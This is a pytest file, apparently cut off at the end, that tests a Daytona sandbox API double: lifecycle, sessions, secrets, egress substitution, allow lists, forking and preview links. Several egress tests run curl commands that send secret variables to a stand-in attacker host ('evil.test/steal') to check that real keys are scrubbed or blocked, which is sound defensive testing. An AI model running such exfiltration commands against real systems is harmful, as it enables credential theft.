"""The Daytona double, driven by the real `daytona` SDK: if these pass, the wire contract the
rest of the suite relies on holds (status codes, DTOs, events, streaming, errors)."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import socket
import sys
import time
from collections.abc import AsyncIterator, Awaitable
from pathlib import Path

import aiohttp
import pytest
import pytest_asyncio
from daytona import (
    AsyncDaytona,
    AsyncSandbox,
    CreateSandboxFromSnapshotParams,
    CreateSecretParams,
    CreateSnapshotParams,
    DaytonaAuthenticationError,
    DaytonaBadRequestError,
    DaytonaConfig,
    DaytonaConflictError,
    DaytonaError,
    DaytonaFileNotFoundError,
    DaytonaNotFoundError,
    DaytonaProcessExecutionTimeoutError,
    DaytonaRateLimitError,
    DaytonaServiceUnavailableError,
    DaytonaUnprocessableEntityError,
    Image,
    ListSandboxesQuery,
    SessionExecuteRequest,
    UpdateSecretParams,
)
from daytona_api_client_async.exceptions import BadRequestException, ConflictException, NotFoundException

from tests.doubles.anthropic import HELLO_TEXT, AnthropicDouble, Hang, default_responder
from tests.doubles.daytona import DaytonaDouble, SnapshotSpec
from tests.doubles.egress import Attacker, SecretBinding, Scrubber


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    # The SDK's aiohttp session uses trust_env=True.
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")


@pytest_asyncio.fixture
async def double() -> AsyncIterator[DaytonaDouble]:
    async with DaytonaDouble(snapshots={"daytona-small": SnapshotSpec(env={"IMAGE_VAR": "from-image"})}) as d:
        yield d


@pytest_asyncio.fixture
async def client(double: DaytonaDouble) -> AsyncIterator[AsyncDaytona]:
    async with AsyncDaytona(DaytonaConfig(api_key=double.api_key, api_url=double.api_url)) as daytona:
        yield daytona


def params(**kwargs: object) -> CreateSandboxFromSnapshotParams:
    return CreateSandboxFromSnapshotParams(snapshot="daytona-small", **kwargs)


async def test_lifecycle_exec_stop_start_delete(double: DaytonaDouble, client: AsyncDaytona) -> None:
    started = time.monotonic()
    sandbox = await client.create(params(env_vars={"SECRET": "s3"}, labels={"suite": "double"}))
    assert time.monotonic() - started < 0.5, "socket.io events should make the state wait fast"
    assert sandbox.state == "started"
    record = double.sandbox(sandbox.id)
    assert record.env == {"SECRET": "s3"}
    assert await sandbox.get_user_home_dir() == str(record.home)

    res = await sandbox.process.exec('echo "$SECRET $IMAGE_VAR $PWD"; echo err >&2; exit 3')
    assert res.exit_code == 3
    assert res.result == f"s3 from-image {record.home}\nerr\n"

    await sandbox.stop()
    assert sandbox.state == "stopped"
    with pytest.raises(DaytonaBadRequestError, match="no IP address found"):
        await sandbox.process.exec("true")

    await sandbox.start()
    assert (await sandbox.process.exec("echo back")).result == "back\n"

    await sandbox.delete()
    await asyncio.sleep(double.start_delay * 3)
    with pytest.raises(DaytonaNotFoundError):
        await client.get(sandbox.id)


async def test_session_follow_streams_while_running(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    await sandbox.process.create_session("s1")
    cmd = await sandbox.process.execute_session_command(
        "s1",
        SessionExecuteRequest(
            command="echo one; sleep 0.3; printf partial >&2; sleep 0.3; echo two", run_async=True
        ),
    )
    first_line = asyncio.Event()
    out: list[str] = []
    err: list[str] = []

    def on_stdout(chunk: str) -> None:
        out.append(chunk)
        first_line.set()

    follow = asyncio.create_task(
        sandbox.process.get_session_command_logs_async("s1", cmd.cmd_id, on_stdout, err.append)
    )
    await asyncio.wait_for(first_line.wait(), 0.25)
    assert "".join(out) == "one\n"
    running = await sandbox.process.get_session_command("s1", cmd.cmd_id)
    assert running.exit_code is None

    await asyncio.wait_for(follow, 5)
    assert "".join(out) == "one\ntwo\n"
    assert "".join(err) == "partial\n"  # partial line flushed at EOF with a newline
    done = await sandbox.process.get_session_command("s1", cmd.cmd_id)
    assert done.exit_code == 0
    logs = await sandbox.process.get_session_command_logs("s1", cmd.cmd_id)
    assert (logs.stdout, logs.stderr) == ("one\ntwo\n", "partial\n")


async def test_session_state_persists_and_sync_exec(client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    await sandbox.process.create_session("s")
    await sandbox.process.execute_session_command(
        "s", SessionExecuteRequest(command="mkdir -p sub && cd sub && export X=42")
    )
    res = await sandbox.process.execute_session_command(
        "s", SessionExecuteRequest(command='echo "X=$X in $(basename $PWD)"; echo oops >&2')
    )
    assert res.exit_code == 0
    assert res.stdout == "X=42 in sub\n"
    assert res.stderr == "oops\n"
    session = await sandbox.process.get_session("s")
    assert len(session.commands) == 2
    await sandbox.process.delete_session("s")
    with pytest.raises(DaytonaNotFoundError):
        await sandbox.process.get_session("s")


async def test_files_round_trip_and_errors(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    await sandbox.fs.upload_file(b"payload-123", "data/out.txt")
    home = double.sandbox(sandbox.id).home
    assert (home / "data" / "out.txt").read_bytes() == b"payload-123"
    assert await sandbox.fs.download_file("data/out.txt") == b"payload-123"
    assert await sandbox.fs.download_file(str(home / "data/out.txt")) == b"payload-123"
    names = [f.name for f in await sandbox.fs.list_files("data")]
    assert names == ["out.txt"]
    with pytest.raises(DaytonaFileNotFoundError):
        await sandbox.fs.download_file("data/missing.txt")
    await sandbox.fs.delete_file("data/out.txt")
    with pytest.raises(DaytonaFileNotFoundError):
        await sandbox.fs.get_file_info("data/out.txt")


async def test_exec_timeout_kills_the_process_group(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    with pytest.raises(DaytonaProcessExecutionTimeoutError):
        await sandbox.process.exec("sleep 30 & sleep 30", timeout=1)
    assert double.processes(sandbox.id) == []


async def test_auto_stop_kills_processes(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    await sandbox.process.create_session("s")
    await sandbox.process.execute_session_command("s", SessionExecuteRequest(command="sleep 30", run_async=True))
    await asyncio.sleep(0.1)
    assert any("sleep 30" in cmdline for _, cmdline in double.processes(sandbox.id))
    double.auto_stop(sandbox.id)
    assert double.processes(sandbox.id) == []
    await asyncio.sleep(0.1)
    assert sandbox.state == "stopped"  # via the socket.io event, without a GET
    with pytest.raises(DaytonaBadRequestError):
        await sandbox.process.exec("true")


async def test_injected_errors_and_auth(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    double.inject("GET", r"^/api/sandbox/", 429, headers={"Retry-After": "1"})
    with pytest.raises(DaytonaRateLimitError):
        await client.get(sandbox.id)
    assert (await client.get(sandbox.id)).id == sandbox.id
    double.inject("POST", r"/process/execute$", 503, body="<html>upstream down</html>")
    with pytest.raises(DaytonaServiceUnavailableError):
        await sandbox.process.exec("true")
    with pytest.raises(DaytonaBadRequestError, match="Snapshot nope not found"):
        await client.create(CreateSandboxFromSnapshotParams(snapshot="nope"))
    async with AsyncDaytona(DaytonaConfig(api_key="wrong", api_url=double.api_url)) as intruder:
        with pytest.raises(DaytonaAuthenticationError):
            await intruder.get(sandbox.id)


async def test_list_by_labels(client: AsyncDaytona) -> None:
    a = await client.create(params(labels={"thread": "a"}))
    await client.create(params(labels={"thread": "b"}))
    found = [s.id async for s in client.list(ListSandboxesQuery(labels={"thread": "a"}, limit=1))]
    assert found == [a.id]
    everything = [s.id async for s in client.list(ListSandboxesQuery(limit=1))]
    assert len(everything) == 2


async def test_claude_is_on_the_sandbox_path(daytona_double: DaytonaDouble) -> None:
    async with AsyncDaytona(DaytonaConfig(api_key=daytona_double.api_key, api_url=daytona_double.api_url)) as d:
        sandbox = await d.create(params())
        res = await sandbox.process.exec("claude --version")
        assert res.exit_code == 0, res.result
        assert res.result.startswith("2.1.332")
        with pytest.raises(DaytonaError):
            await sandbox.process.exec("true", cwd="/definitely/missing")


async def test_injected_delay_slows_only_the_matching_call(double: DaytonaDouble, client: AsyncDaytona) -> None:
    doomed = await client.create(params())
    other = await client.create(params())
    double.inject("DELETE", rf"^/api/sandbox/{doomed.id}$", None, delay=1.0)

    async def timed(call: Awaitable[object]) -> float:
        started = time.monotonic()
        await call
        return time.monotonic() - started

    slow, fast = await asyncio.gather(timed(doomed.delete()), timed(client.get(other.id)))
    assert slow >= 1.0 and fast < 0.5
    await asyncio.sleep(double.start_delay * 3)
    with pytest.raises(DaytonaNotFoundError):  # after the wait the delete was handled normally
        await client.get(doomed.id)

    double.inject("GET", rf"^/api/sandbox/{other.id}$", 503, delay=0.3)  # slow, then failing
    started = time.monotonic()
    with pytest.raises(DaytonaServiceUnavailableError):
        await client.get(other.id)
    assert time.monotonic() - started >= 0.3
    with pytest.raises(ValueError):
        double.inject("GET", r"^/api/sandbox/", None, body="no status, no body")


# --------------------------------------------------------------------------- secrets & egress (§14, §15)

REAL_KEY = "sk-real-0123456789-abcdef"


@pytest_asyncio.fixture
async def raw(double: DaytonaDouble) -> AsyncIterator[aiohttp.ClientSession]:
    """A plain HTTP client on the control plane, to see status codes and bodies the SDK hides."""
    headers = {"Authorization": f"Bearer {double.api_key}"}
    async with aiohttp.ClientSession(f"http://127.0.0.1:{double.port}", headers=headers) as session:
        yield session


async def sandbox_sh(sandbox: AsyncSandbox, command: str) -> str:
    res = await sandbox.process.exec(command, timeout=30)
    assert res.exit_code == 0, res.result
    return res.result


async def test_secret_crud_wire_format_and_status_codes(
    double: DaytonaDouble, client: AsyncDaytona, raw: aiohttp.ClientSession
) -> None:
    async with raw.post("/api/secret", json={"name": "anthropic", "value": REAL_KEY, "hosts": ["api.test"]}) as resp:
        assert resp.status == 201
        dto = await resp.json()
    assert set(dto) == {"id", "name", "createdAt", "updatedAt", "placeholder", "hosts"}  # never the value
    assert re.fullmatch(r"dtn_secret_[0-9a-f]{32}", dto["placeholder"]) and dto["hosts"] == ["api.test"]
    assert double.secret_named("anthropic").value == REAL_KEY

    made = await client.secret.create(CreateSecretParams(name="gh_token", value="ghp-1", description="d"))
    assert made.hosts == [] and made.description == "d" and made.placeholder != dto["placeholder"]
    # SDK 0.226.1: `daytona.secret.*` has no @intercept_errors, so failures are the generated
    # client's ApiException subclasses (`.status`), not DaytonaError.
    with pytest.raises(ConflictException) as conflict:
        await client.secret.create(CreateSecretParams(name="anthropic", value="other"))
    assert conflict.value.status == 409 and not isinstance(conflict.value, DaytonaError)
    for bad in ({"name": "1bad", "value": "v"}, {"name": "ok", "value": ""},
                *({"name": "ok", "value": "v", "hosts": [h]} for h in
                  ("https://api.test", "api.test:443", "api.test/v1", "*", "a.*.test", ""))):
        async with raw.post("/api/secret", json=bad) as resp:
            assert resp.status == 400, bad
            body = await resp.json()
            assert isinstance(body["message"], list) and body["error"] == "Bad Request"  # class-validator
    with pytest.raises(BadRequestException):
        await client.secret.create(CreateSecretParams(name="has space", value="v"))

    await client.secret.create(CreateSecretParams(name="zeta", value="z", hosts=["*.example.com"]))
    first = await client.secret.list(limit=2, sort="name", order="asc")
    assert [s.name for s in first.items] == ["anthropic", "gh_token"] and first.total == 3
    second = await client.secret.list(cursor=first.next_cursor, limit=2, sort="name", order="asc")
    assert [s.name for s in second.items] == ["zeta"] and second.next_cursor is None
    assert [s.name for s in (await client.secret.list(name="TOK")).items] == ["gh_token"]  # partial match
    async with raw.get("/api/secret/paginated", params={"limit": "201"}) as resp:
        assert resp.status == 400
    async with raw.get("/api/secret") as resp:
        assert resp.status == 200 and len(await resp.json()) == 3

    updated = await client.secret.update(dto["id"], UpdateSecretParams(value="sk-rotated"))
    assert updated.placeholder == dto["placeholder"] and updated.hosts == ["api.test"]  # PATCH: only value
    assert double.secret_named("anthropic").value == "sk-rotated"
    assert (await client.secret.get(dto["id"])).updated_at >= updated.created_at
    await client.secret.delete(made.id)
    with pytest.raises(NotFoundException):
        await client.secret.get(made.id)
    async with raw.delete(f"/api/secret/{made.id}") as resp:
        assert resp.status == 404


async def test_sandbox_holds_only_the_placeholder(
    double: DaytonaDouble, client: AsyncDaytona, raw: aiohttp.ClientSession
) -> None:
    secret = await client.secret.create(CreateSecretParams(name="anthropic", value=REAL_KEY, hosts=["api.test"]))
    with pytest.raises(DaytonaBadRequestError, match="Secret nope not found"):
        await client.create(params(secrets={"ANTHROPIC_API_KEY": "nope"}))
    sandbox = await client.create(params(secrets={"ANTHROPIC_API_KEY": "anthropic"}, env_vars={"PLAIN": "p"}))
    assert double.sandbox_secrets(sandbox.id) == {"ANTHROPIC_API_KEY": "anthropic"}
    assert REAL_KEY not in json.dumps(sandbox.env)  # not in the DTO either

    printed = await sandbox_sh(sandbox, "printenv")
    assert f"ANTHROPIC_API_KEY={secret.placeholder}\n" in printed and REAL_KEY not in printed
    await sandbox_sh(sandbox, 'echo "$ANTHROPIC_API_KEY" > key.txt; env > env.txt')
    await sandbox.process.create_session("s")
    await sandbox.process.execute_session_command(
        "s", SessionExecuteRequest(command="sh -c 'sleep 30; true' \"$ANTHROPIC_API_KEY\"", run_async=True)
    )
    await asyncio.sleep(0.2)
    procs = double.processes(sandbox.id)
    assert any(secret.placeholder in cmdline for _, cmdline in procs)
    for pid, cmdline in procs:
        assert REAL_KEY not in cmdline
        with open(f"/proc/{pid}/environ", "rb") as fh:
            assert REAL_KEY.encode() not in fh.read()
    root = double.sandbox(sandbox.id).root
    for path in root.rglob("*"):
        if path.is_file():
            assert REAL_KEY.encode() not in path.read_bytes(), path
    # The one API that does return plaintext (§14.2), to the API key holder only.
    async with raw.get(f"/api/sandbox/{sandbox.id}/secrets") as resp:
        assert await resp.json() == [
            {"env": "ANTHROPIC_API_KEY", "placeholder": secret.placeholder, "value": REAL_KEY, "hosts": ["api.test"]}
        ]


async def test_egress_substitutes_in_headers_for_the_secret_hosts_only(
    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
) -> None:
    async with Attacker() as trusted:
        double.hosts.update({"api.trusted.test": trusted.ip, "evil.test": attacker.ip})
        key = await client.secret.create(
            CreateSecretParams(name="key", value=REAL_KEY, hosts=["*.trusted.test"])
        )
        anywhere = await client.secret.create(CreateSecretParams(name="loose", value="loose-value"))
        sandbox = await client.create(params(secrets={"KEY": "key", "LOOSE": "loose"}))
        good = f"http://api.trusted.test:{trusted.port}"
        evil = f"http://evil.test:{attacker.port}"

        seen = await sandbox_sh(sandbox, f'curl -s -D - -H "Authorization: Bearer $KEY" {good}/v1/ok')
        assert trusted.hits[-1].header("Authorization") == f"Bearer {REAL_KEY}"
        assert f"X-Echo-Authorization: Bearer {key.placeholder}" in seen  # response headers scrubbed
        assert REAL_KEY not in seen and key.placeholder in seen  # and the echoed body

        # Same header to another host; the key in body and URL even to the trusted host.
        await sandbox_sh(sandbox, f'curl -s -H "x-api-key: $KEY" -H "X-Loose: $LOOSE" {evil}/steal')
        await sandbox_sh(sandbox, f'curl -s -d "k=$KEY" "{good}/q?k=$KEY"')
        await sandbox_sh(sandbox, f'curl -s -d "k=$KEY" "{evil}/q?k=$KEY"')
        assert not attacker.seen(REAL_KEY) and attacker.seen(key.placeholder)
        assert attacker.hits[0].header("x-api-key") == key.placeholder
        assert attacker.hits[0].header("X-Loose") == "loose-value"  # no hosts = any destination
        posted = trusted.hits[-1]
        assert posted.path == f"/q?k={key.placeholder}" and posted.body == f"k={key.placeholder}".encode()

        log = double.egress_requests(sandbox.id)
        assert [(r.host, r.substituted) for r in log] == [
            ("api.trusted.test", ["key"]), ("evil.test", ["loose"]), ("api.trusted.test", []), ("evil.test", []),
        ]
        assert anywhere.hosts == []


async def test_update_secrets_needs_a_restart_when_created_without(
    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
) -> None:
    double.hosts["api.trusted.test"] = attacker.ip
    secret = await client.secret.create(CreateSecretParams(name="key", value=REAL_KEY, hosts=["api.trusted.test"]))
    sandbox = await client.create(params())
    send = f'curl -s -o /dev/null -H "Authorization: $KEY" http://api.trusted.test:{attacker.port}/'
    await sandbox.update_secrets({"KEY": "key"})
    assert double.sandbox_secrets(sandbox.id) == {"KEY": "key"}
    assert await sandbox_sh(sandbox, 'printf %s "$KEY"') == secret.placeholder  # new processes see it
    await sandbox_sh(sandbox, send)
    assert attacker.hits[-1].header("Authorization") == secret.placeholder  # not substituted yet (§14.3)
    await sandbox.stop()
    await sandbox.start()
    await sandbox_sh(sandbox, send)
    assert attacker.hits[-1].header("Authorization") == REAL_KEY
    await sandbox.update_secrets({})
    assert await sandbox_sh(sandbox, 'printf %s "${KEY-unset}"') == "unset"
    with pytest.raises(DaytonaBadRequestError):
        await sandbox.update_secrets({"KEY": "missing"})

    double.break_substitution(sandbox.id)  # the "stuck sandbox" fault
    await sandbox.update_secrets({"KEY": "key"})
    await sandbox_sh(sandbox, send)
    assert attacker.hits[-1].header("Authorization") == secret.placeholder


async def test_domain_allow_list_and_block_all(
    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
) -> None:
    async with Attacker() as allowed:
        double.hosts.update({"api.anthropic.test": allowed.ip, "evil.test": attacker.ip})
        for bad in ("127.0.0.1", "localhost", "api.anthropic.test:443", ",".join(f"d{i}.test" for i in range(11))):
            with pytest.raises(DaytonaBadRequestError):
                await client.create(params(domain_allow_list=bad))
        sandbox = await client.create(params(domain_allow_list="api.anthropic.test"))
        assert sandbox.domain_allow_list == "api.anthropic.test" and not sandbox.network_block_all
        curl = "curl -s -o /dev/null -w %{http_code} "
        assert await sandbox_sh(sandbox, curl + f"http://api.anthropic.test:{allowed.port}/") == "200"
        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "403"
        assert await sandbox_sh(sandbox, curl + f"http://{attacker.ip}:{attacker.port}/") == "403"
        assert attacker.hits == [] and len(allowed.hits) == 1
        assert [r.outcome for r in double.egress_requests(sandbox.id)] == ["forwarded", "blocked", "blocked"]
        # HTTPS goes through CONNECT: the policy applies, but the tunnel is opaque (no TLS here).
        refused = await sandbox.process.exec(f"curl -s https://evil.test:{attacker.port}/", timeout=30)
        tunnelled = await sandbox.process.exec(f"curl -s https://api.anthropic.test:{allowed.port}/", timeout=30)
        assert (refused.exit_code, tunnelled.exit_code) == (56, 35)  # CONNECT refused / TLS handshake failed
        assert [(r.method, r.outcome) for r in double.egress_requests(sandbox.id)[-2:]] == [
            ("CONNECT", "blocked"), ("CONNECT", "tunnelled")
        ]

        await sandbox.update_network_settings(domain_allow_list="*.anthropic.test, evil.test")
        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "200"
        await sandbox.update_network_settings(network_block_all=True)
        assert sandbox.network_block_all and sandbox.domain_allow_list is None
        assert await sandbox_sh(sandbox, curl + f"http://api.anthropic.test:{allowed.port}/") == "403"
        await sandbox.update_network_settings(network_block_all=False)
        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "200"

        blocked = await client.create(params(network_block_all=True))
        assert await sandbox_sh(blocked, curl + f"http://api.anthropic.test:{allowed.port}/") == "403"
        assert len(allowed.hits) == 1


async def test_egress_streams_unbuffered_and_scrubs(
    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
) -> None:
    double.hosts["api.trusted.test"] = attacker.ip
    secret = await client.secret.create(CreateSecretParams(name="key", value=REAL_KEY, hosts=["api.trusted.test"]))
    sandbox = await client.create(params(secrets={"KEY": "key"}))
    url = f"http://api.trusted.test:{attacker.port}/stream?n=3&delay=0.4"
    arrivals = []
    started = time.monotonic()
    async with aiohttp.ClientSession() as session:
        headers = {"Authorization": secret.placeholder}
        async with session.get(url, proxy=double.egress_proxy_url(sandbox.id), headers=headers) as resp:
            async for line in resp.content:
                arrivals.append((time.monotonic() - started, line.decode()))
    assert [text for _, text in arrivals] == [f"line {n} {secret.placeholder}\n" for n in range(3)]
    assert arrivals[0][0] < 0.3, "the first line must not wait for the rest of the body"
    assert attacker.hits[-1].header("Authorization") == REAL_KEY


async def test_egress_keeps_alive_carries_big_bodies_and_drops_the_upstream_of_a_dead_client(
    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
) -> None:
    double.hosts["evil.test"] = attacker.ip
    sandbox = await client.create(params())
    base = f"http://evil.test:{attacker.port}"
    await sandbox_sh(sandbox, "head -c 3000000 /dev/zero | tr '\\0' x > big")
    out = await sandbox_sh(sandbox, f"curl -s -o /dev/null -o /dev/null -w '%{{size_download}} %{{num_connects}}\\n' "
                                    f"--data-binary @big {base}/one {base}/two")
    assert [line.split()[1] for line in out.splitlines()] == ["1", "0"]  # 2nd request reused the connection
    assert int(out.split()[0]) > 3_000_000  # the echo of a 3 MB body came back whole
    assert [len(hit.body) for hit in attacker.hits] == [3_000_000, 3_000_000]

    res = await sandbox.process.exec(f"curl -s --max-time 1 '{base}/stream?n=2&delay=30'", timeout=30)
    assert res.exit_code == 28  # curl's timeout: it went away mid-stream
    for _ in range(40):
        if attacker.dropped:
            break
        await asyncio.sleep(0.05)
    assert [hit.path for hit in attacker.dropped] == ["/stream?n=2&delay=30"], "upstream kept open"


def test_scrubber_catches_values_split_across_chunks() -> None:
    scrub = Scrubber([SecretBinding("k", "PH", "REALVALUE")])
    out = scrub.feed(b"data: REAL") + scrub.feed(b"VALUE and REALV") + scrub.feed(b"ALUE\n\n")
    assert out + scrub.flush() == b"data: PH and PH\n\n"
    assert scrub.feed(b"event: x\n\n") == b"event: x\n\n"  # nothing held back after a frame


async def test_claude_code_sends_the_real_key_only_via_the_egress(
    daytona_double: DaytonaDouble, anthropic_double: AnthropicDouble
) -> None:
    """The real CLI, in a double sandbox holding only the placeholder, authenticates with the
    real key: its proxy-aware HTTP client sends through the sandbox's egress, which swaps it in."""
    real_key = anthropic_double.api_key
    assert real_key is not None
    daytona_double.hosts["api.anthropic.test"] = "127.0.0.1"
    env = {
        "ANTHROPIC_BASE_URL": f"http://api.anthropic.test:{anthropic_double.port}",
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
        "CLAUDE_CODE_MAX_RETRIES": "0",
    }
    async with AsyncDaytona(DaytonaConfig(api_key=daytona_double.api_key, api_url=daytona_double.api_url)) as d:
        secret = await d.secret.create(
            CreateSecretParams(name="anthropic", value=real_key, hosts=["api.anthropic.test"])
        )
        sandbox = await d.create(
            params(env_vars=env, secrets={"ANTHROPIC_API_KEY": "anthropic"}, domain_allow_list="api.anthropic.test")
        )
        assert await sandbox_sh(sandbox, 'printf %s "$ANTHROPIC_API_KEY"') == secret.placeholder
        res = await sandbox.process.exec("claude -p 'say hi' --output-format json", timeout=120)
        result = json.loads(res.result.strip().splitlines()[-1])
        assert result["result"] == HELLO_TEXT and not result["is_error"], res.result
        assert [r.headers["x-api-key"] for r in anthropic_double.requests] == [real_key]
        [sent] = daytona_double.egress_requests(sandbox.id)  # only the API call, nothing else
        assert sent.method == "POST" and sent.substituted == ["anthropic"]
        assert real_key not in res.result

        # Killing the CLI mid-stream reaches the API through the proxy (cancel tests rely on it).
        anthropic_double.responder = lambda body: Hang("partial")
        await sandbox.process.create_session("run")
        await sandbox.process.execute_session_command(
            "run", SessionExecuteRequest(command="claude -p 'hang' --output-format json < /dev/null", run_async=True)
        )
        while len(anthropic_double.requests) < 2:
            await asyncio.sleep(0.05)
        await sandbox.process.delete_session("run")  # kills the process group
        for _ in range(40):
            if anthropic_double.requests[-1].disconnected:
                break
            await asyncio.sleep(0.05)
        assert anthropic_double.requests[-1].disconnected

        anthropic_double.responder = default_responder
        daytona_double.break_substitution(sandbox.id)  # a stuck sandbox: the provider says 401
        res = await sandbox.process.exec("claude -p 'say hi' --output-format json", timeout=120)
        assert json.loads(res.result.strip().splitlines()[-1])["is_error"]
        assert anthropic_double.requests[-1].headers["x-api-key"] == secret.placeholder


# --------------------------------------------------------------------------- fork (§20.1)


def _slug(path: object) -> str:
    return re.sub(r"[^a-zA-Z0-9]", "-", str(path))


async def test_fork_copies_the_files_and_claude_state_and_keeps_its_parent(
    double: DaytonaDouble, client: AsyncDaytona
) -> None:
    sandbox = await client.create(params(env_vars={"A": "1"}, labels={"suite": "fork"}))
    src = double.sandbox(sandbox.id)
    await sandbox.fs.upload_file(b"step 1", "plan.md")
    conversation = src.home / ".claude" / "projects" / _slug(src.home / "work") / "s1.jsonl"
    conversation.parent.mkdir(parents=True)
    conversation.write_text(json.dumps({"cwd": str(src.home / "work"), "sessionId": "s1"}) + "\n")
    (src.home / "plan-link").symlink_to(src.home / "plan.md")
    os.mkfifo(src.tmp / "fifo")  # a FIFO must neither be copied nor hang the copy

    forked = await sandbox.fork(name="copy")
    assert forked.id != sandbox.id and forked.name == "copy" and forked.state == "started"
    fork = double.sandbox(forked.id)
    assert (fork.parent_id, fork.env, fork.labels, fork.snapshot) == (sandbox.id, src.env, src.labels, src.snapshot)
    assert (await forked.process.exec("cat plan.md")).result == "step 1"
    # Claude Code's conversation is where the fork's Claude looks for it, naming the fork's paths.
    moved = fork.home / ".claude" / "projects" / _slug(fork.home / "work") / "s1.jsonl"
    assert json.loads(moved.read_text())["cwd"] == str(fork.home / "work")
    assert os.readlink(fork.home / "plan-link") == str(fork.home / "plan.md")
    assert not (fork.tmp / "fifo").exists()

    await forked.process.exec("echo changed > plan.md")  # independent from here on
    assert (src.home / "plan.md").read_text() == "step 1"
    await sandbox.refresh_data()
    assert sandbox.state == "started"  # back from `forking`

    with pytest.raises(DaytonaBadRequestError, match="active fork children. The forks must be deleted first"):
        await sandbox.delete()
    await forked.delete()
    await sandbox.delete()


async def test_fork_wire_states_and_refusals(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    headers = {"Authorization": f"Bearer {double.api_key}"}
    async with aiohttp.ClientSession(headers=headers) as http:
        async with http.post(f"{double.api_url}/sandbox/{sandbox.id}/fork", json={"name": "f1"}) as r:
            assert r.status == 200
            dto = await r.json()
        assert (dto["state"], dto["name"], dto["toolboxProxyUrl"]) == ("creating", "f1", double.toolbox_proxy_url)
        async with http.get(f"{double.api_url}/sandbox/{sandbox.id}") as r:
            assert (await r.json())["state"] == "forking"
        async with http.post(f"{double.api_url}/sandbox/{sandbox.id}/fork", json={}) as r:
            assert r.status == 400  # still forking
        await asyncio.sleep(double.start_delay * 3)
        async with http.get(f"{double.api_url}/sandbox/f1") as r:
            assert (await r.json())["state"] == "started"
        async with http.post(f"{double.api_url}/sandbox/{sandbox.id}/fork", json={"name": "f1"}) as r:
            assert (r.status, (await r.json())["message"]) == (409, "Sandbox with this name already exists")

    await sandbox.stop()
    with pytest.raises(DaytonaBadRequestError, match="Sandbox must be in started state to fork"):
        await sandbox.fork()
    await sandbox.start()
    double.forkable = False
    with pytest.raises(DaytonaUnprocessableEntityError, match="Forking is not supported for this sandbox"):
        await sandbox.fork()


# --------------------------------------------------------------------------- preview links (§19)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


async def _serve_home(sandbox: AsyncSandbox, port: int) -> None:
    """A web server started in the sandbox, as Claude would: its process listens on a host port."""
    await sandbox.process.create_session("web")
    await sandbox.process.execute_session_command("web", SessionExecuteRequest(
        command=f"{sys.executable} -m http.server {port} --bind 127.0.0.1 >/dev/null 2>&1", run_async=True))
    for _ in range(200):
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.close()
            return
        await asyncio.sleep(0.02)
    raise AssertionError(f"nothing listens on {port}")


async def test_signed_preview_url_proxies_to_the_sandbox_server_and_expires(
    double: DaytonaDouble, client: AsyncDaytona
) -> None:
    sandbox = await client.create(params())
    (double.sandbox(sandbox.id).home / "index.html").write_text("<h1>PREVIEWED PAGE</h1>")
    port = _free_port()
    await _serve_home(sandbox, port)

    signed = await sandbox.create_signed_preview_url(port, expires_in_seconds=1)
    assert (signed.sandbox_id, signed.port) == (sandbox.id, port)
    assert re.fullmatch(r"[0-9a-z]{16}", signed.token)
    assert signed.url == f"http://127.0.0.1:{double.port}/preview/{port}-{signed.token}"
    async with aiohttp.ClientSession() as http:
        async with http.get(signed.url) as r:
            assert r.status == 200 and "PREVIEWED PAGE" in await r.text()
        async with http.get(signed.url + "/index.html?x=1") as r:
            assert r.status == 200 and r.headers["Content-Type"] == "text/html"
        async with http.get(signed.url + "/missing") as r:
            assert r.status == 404  # the server's own answer
        async with http.post(signed.url + "/", data=b"body") as r:
            assert r.status == 501  # http.server has no POST: method forwarded as is
        await asyncio.sleep(1.1)
        # Expired: the proxy sends the visitor to the Daytona login page (server v0.190).
        async with http.get(signed.url, allow_redirects=False) as r:
            assert r.status == 307
            assert r.headers["Location"].startswith(f"http://127.0.0.1:{double.port}/oidc/authorize?")
        async with http.get(signed.url) as r:
            assert r.status == 200 and "Log in to Daytona" in await r.text()


async def test_signed_preview_revocation_bounds_and_errors(double: DaytonaDouble, client: AsyncDaytona) -> None:
    sandbox = await client.create(params())
    (double.sandbox(sandbox.id).home / "index.html").write_text("hello")
    port = _free_port()
    await _serve_home(sandbox, port)

    signed = await sandbox.create_signed_preview_url(port)
    lifetime = double.signed_previews[(port, signed.token)].expires_at - time.monotonic()
    assert 58 < lifetime <= 60  # the default
    # A browser keeps the proxy's auth cookie (aiohttp's default jar ignores IP hosts).
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as browser:
        async with browser.get(signed.url) as r:
            assert r.status == 200 and await r.text() == "hello"
        await sandbox.expire_signed_preview_url(port, signed.token)
        async with browser.get(signed.url, allow_redirects=False) as r:
            assert r.status == 200, "the real proxy's one-hour cookie outlives the token"
    async with aiohttp.ClientSession() as http:
        async with http.get(signed.url, allow_redirects=False) as r:
            assert r.status == 307  # revoked
        other = _free_port()
        second = await sandbox.create_signed_preview_url(other)
        async with http.get(second.url) as r:
            assert r.status == 502 and await r.read() == b""  # nothing listens there
        bound = second.url.replace(f"/{other}-", f"/{port}-")
        async with http.get(bound, allow_redirects=False) as r:
